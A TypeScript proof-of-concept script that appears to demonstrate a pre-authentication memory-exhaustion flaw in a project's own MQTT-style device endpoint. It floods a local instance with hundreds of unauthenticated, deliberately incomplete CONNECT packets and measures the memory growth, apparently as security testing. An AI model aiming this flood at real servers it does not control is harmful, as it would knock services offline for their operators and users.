/**
 * Pre-authentication memory: any address may open any number of connections, and each may make the
 * endpoint buffer one not-yet-complete packet of up to maxPacketBytes (256 KiB) for connectTimeoutMs
 * (10 s) before any credential is checked. Run: npx tsx attack/preauth-flood.ts [connections]
 */
import net from 'node:net';
import { startDeviceEndpoint } from '../lib/device-endpoint/device-endpoint';
import type { DeviceEndpointStore } from '../lib/device-endpoint/ports';

const n = Number(process.argv[2] ?? 400);
const never = () => new Promise<never>(() => undefined);
const store = { findDevice: never, recordConnection: never, addCounts: async () => undefined, refusedCredentials: async () => new Set(), pushTargets: never, appendInbox: never, loadQos2Receipts: never, clearQos2Receipts: never } as unknown as DeviceEndpointStore;
const ep = await startDeviceEndpoint({ store, port: 0, wsPort: 0 });
global.gc?.();
const before = process.memoryUsage();
const body = Buffer.alloc(256 * 1024 - 1, 0x41);
// CONNECT fixed header declaring a remaining length of 262144 (the limit), then all but the last byte.
const header = Buffer.from([0x10, 0x80, 0x80, 0x10]);
const sockets: net.Socket[] = [];
let written = 0;
await Promise.all(
  Array.from({ length: n }, () =>
    new Promise<void>((resolve) => {
      const s = net.connect(ep.port, '127.0.0.1', () => s.write(Buffer.concat([header, body]), () => (written++, resolve())));
      s.on('error', () => resolve());
      sockets.push(s);
    }),
  ),
);
await new Promise((r) => setTimeout(r, 1500));
global.gc?.();
const after = process.memoryUsage();
const open = sockets.filter((s) => !s.destroyed && !s.readableEnded).length;
const mb = (x: number) => `${(x / 2 ** 20).toFixed(0)} MiB`;
console.log(`${n} unauthenticated connections from one address, ${written} wrote 256 KiB - 1 byte of a CONNECT; still open after 1.5 s: ${open}`);
console.log(`endpoint process: arrayBuffers ${mb(before.arrayBuffers)} -> ${mb(after.arrayBuffers)}, rss ${mb(before.rss)} -> ${mb(after.rss)}`);
for (const s of sockets) s.destroy();
await ep.close();
